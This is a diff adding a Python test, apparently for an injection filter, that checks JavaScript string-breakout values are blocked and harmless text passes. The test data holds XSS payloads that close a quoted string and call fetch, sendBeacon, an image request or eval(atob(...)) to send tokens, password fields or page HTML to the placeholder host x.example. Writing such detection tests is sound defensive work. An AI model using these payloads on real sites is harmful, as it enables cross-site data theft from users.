@@ -949,3 +949,19 @@ def test_an_element_found_by_a_selector_is_read_by_what_follows(edge):
         "';document.querySelector('form').submit();//",
         "';fetch('//x.example/?'+document.querySelector('input[name=csrf]').value)//",
         "document.querySelectorAll('a')[0].href='//evil.example'"])
+
+
+def test_a_javascript_string_closed_then_a_call_commented_out(edge):
+    """The value closes the page's string ('x'' or '"'), an operator or ";"
+    glued to the quote, a call, and "//" (or "<!--") ends the line: any
+    call sends the page's data out, not only alert. Prose closes no quote
+    after one token to go on with an operator; a code note starts with its
+    own statement."""
+    check_blocked(edge, [
+        "';fetch('//x.example/')//",
+        "\";fetch('//x.example/?c='+localStorage.token);//",
+        "';new Image().src='//x.example/?'+document.querySelector('#pw').value;//",
+        "';navigator.sendBeacon('//x.example',document.body.innerHTML)//",
+        "abc'+eval(atob('YWxlcnQoMSk='))+'<!--"])
+    check_passes(edge, ["it's -- fun (really) //", "const a = 'x'; foo(); // note",
+                        "'use strict'; main() //", "See https://example.com/a'b (c) //"])
